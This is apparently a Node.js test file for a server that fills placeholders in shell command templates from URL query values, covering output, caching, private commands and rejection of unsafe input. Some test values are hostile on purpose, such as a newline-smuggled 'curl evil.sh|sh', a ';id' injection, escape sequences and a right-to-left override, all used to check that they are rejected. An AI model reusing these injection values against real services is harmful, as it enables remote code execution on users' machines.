import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { createCommand } from '../../support/library/sample-commands.ts'
import { AS_OWNER } from '../../support/server/access.ts'
import { startApi } from '../../support/server/api.ts'
import { ask } from '../../support/server/ask.ts'
import { startTestServer } from '../../support/server/server.ts'

const COMMANDS = [
  createCommand({
    id: 'tunnel',
    notes: 'Tunnel to a database',
    line: 'ssh -L {{port=5432}}:localhost:5432 {{user}}@{{host}}',
  }),
  createCommand({
    id: 'go',
    notes: 'Names of containers',
    line: String.raw`docker ps --format '\{\{.Names}}' {{more}}`,
  }),
  createCommand({ id: 'many', notes: 'Print a number', line: 'seq {{n=3}} {{raw=x}}' }),
]

const TUNNEL = '# Tunnel to a database\n'

describe("a command's text", () => {
  for (const [query, text] of [
    ['', `${TUNNEL}# Fill in: user, host\nssh -L 5432:localhost:5432 {{user}}@{{host}}\n\n`],
    ['?host=db1&user=ada', `${TUNNEL}ssh -L 5432:localhost:5432 ada@db1\n\n`],
    ['?port=1&host=db1&user=ada', `${TUNNEL}ssh -L 1:localhost:5432 ada@db1\n\n`],
    ['?port=&host=db1&host=db2&user=ada', `${TUNNEL}ssh -L 5432:localhost:5432 ada@db1\n\n`],
    ['?raw', `${TUNNEL}${COMMANDS[0]?.line}\n\n`],
    ['?raw=&host=db1', `${TUNNEL}${COMMANDS[0]?.line}\n\n`],
    [
      '?host=db1&user=a+b%3Bid',
      `${TUNNEL}# From the address: user = a b;id\nssh -L 5432:localhost:5432 a b;id@db1\n\n`,
    ],
    [
      '?host=%E2%80%AEdb&user=ada',
      `${TUNNEL}# From the address: host = <U+202E>db\nssh -L 5432:localhost:5432 ada@<U+202E>db\n\n`,
    ],
    [
      '?hots=db1&user=ada&x%0Aid=1',
      `${TUNNEL}# Fill in: host\n# No placeholder is called hots, x\n# id.\nssh -L 5432:localhost:5432 ada@{{host}}\n\n`,
    ],
    [
      '?host={{user}}&user=ada',
      `${TUNNEL}# From the address: host = {{user}}\nssh -L 5432:localhost:5432 ada@{{user}}\n\n`,
    ],
  ] as const) {
    test(`is filled in by "${query}"`, async (t) => {
      const server = await startTestServer(t, { commands: COMMANDS })

      const reply = await ask(server, `/commands/tunnel.txt${query}`)
      const again = await ask(server, {
        path: `/commands/tunnel.txt${query}`,
        headers: { 'If-None-Match': reply.headers.etag },
      })

      assert.deepEqual([reply.status, reply.text], [200, text])
      assert.equal(reply.headers['cache-control'], 'no-cache')
      assert.equal(again.status, 304)
    })
  }

  test('is only a comment if the command has no line', async (t) => {
    const server = await startTestServer(t, { commands: [createCommand({ id: 'idea', notes: 'An idea', line: null })] })

    const { text } = await ask(server, '/commands/idea.txt')

    assert.equal(text, '# An idea\n\n')
  })

  test('has escaped braces only if raw', async (t) => {
    const server = await startTestServer(t, { commands: COMMANDS })

    const filled = await ask(server, '/commands/go.txt?more=-a')
    const raw = await ask(server, '/commands/go.txt?raw')

    assert.ok(filled.text.endsWith("docker ps --format '{{.Names}}' -a\n\n"), filled.text)
    assert.ok(raw.text.endsWith(`${COMMANDS[1]?.line}\n\n`), raw.text)
  })

  for (const [what, value] of [
    ['a line break', 'x%0Acurl+evil.sh%7Csh'],
    ['a carriage return', 'x%0D'],
    ['an escape sequence', '%1B%5B2J'],
    ['a null character', '%00'],
    ['damaged UTF-8', '%FF'],
    ['501 characters', 'x'.repeat(501)],
  ] as const) {
    test(`is replaced by a comment if a value has ${what}`, async (t) => {
      const server = await startTestServer(t, { commands: COMMANDS })

      for (const path of ['/commands/tunnel.txt', '/find/tunnel']) {
        const { status, text, headers } = await ask(server, `${path}?user=ada&host=${value}`)
        assert.equal(status, 400)
        assert.match(text, /^# Nothing was filled in: the value of host has [^\n]+\n$/)
        assert.equal(headers['content-type'], 'text/plain; charset=utf-8')
      }
    })
  }
})

describe('the text of a search', () => {
  test('is filled in for every command', async (t) => {
    const server = await startTestServer(t, { commands: COMMANDS })

    const { text } = await ask(server, '/find/database?host=db1&user=ada')
    const raw = await ask(server, '/find/database?raw&host=db1')

    assert.equal(text, `${TUNNEL}ssh -L 5432:localhost:5432 ada@db1\n\n`)
    assert.equal(raw.text, `${TUNNEL}${COMMANDS[0]?.line}\n\n`)
  })

  test("doesn't take n as a value, unlike a command's text", async (t) => {
    const server = await startTestServer(t, { commands: COMMANDS })

    const found = await ask(server, '/find/number?n=7')
    const one = await ask(server, '/commands/many.txt?n=7')

    assert.ok(found.text.endsWith('seq 3 x\n\n'), found.text)
    assert.ok(one.text.endsWith('seq 7 x\n\n'), one.text)
  })
})

describe('a message instead of a text', () => {
  test('is a comment in every line', async (t) => {
    const server = await startTestServer(t, { commands: COMMANDS })

    for (const path of [
      '/commands/x%0Aid%1B.txt',
      '/platforms/x%0Aid.txt',
      '/tags/x%0Aid.txt',
      '/find/zzqq%0Axxyyqq',
    ]) {
      const { status, text } = await ask(server, path)
      assert.equal(status, 404)
      assert.match(text, /^(?:# \P{Cc}+\n)+$/u, path)
    }
  })
})

describe("text for the owner's token", () => {
  const PRIVATE = createCommand({
    id: 'vpn',
    notes: 'Into the network',
    line: 'ssh {{host=inner}}',
    visibility: 'private',
    platform: 'ssh',
    tags: ['net'],
  })
  const DRAFT = createCommand({ id: 'draft', notes: null, line: 'ls', platform: 'ssh', tags: ['net'] })
  const PATHS = ['/commands.txt', '/platforms/ssh.txt', '/tags/net.txt', '/commands/vpn.txt', '/find/network']

  for (const path of PATHS) {
    test(`${path} includes private commands and isn't cached`, async (t) => {
      const server = await startApi(t, { commands: [PRIVATE, DRAFT] })

      const owners = await ask(server, { path, headers: AS_OWNER })
      const stranger = await ask(server, { path, headers: { Authorization: 'Bearer stranger' } })
      const anyone = await ask(server, path)

      assert.equal(owners.status, 200)
      assert.match(owners.text, /^# Into the network\nssh \S+\n\n$/)
      assert.equal(owners.headers['cache-control'], 'private, no-store')
      for (const { text, headers } of [stranger, anyone]) {
        assert.ok(!text.includes('ssh {{') && !text.includes('Into the'), text)
        assert.match(headers.vary ?? '', /\bAuthorization\b/)
      }
    })
  }
})
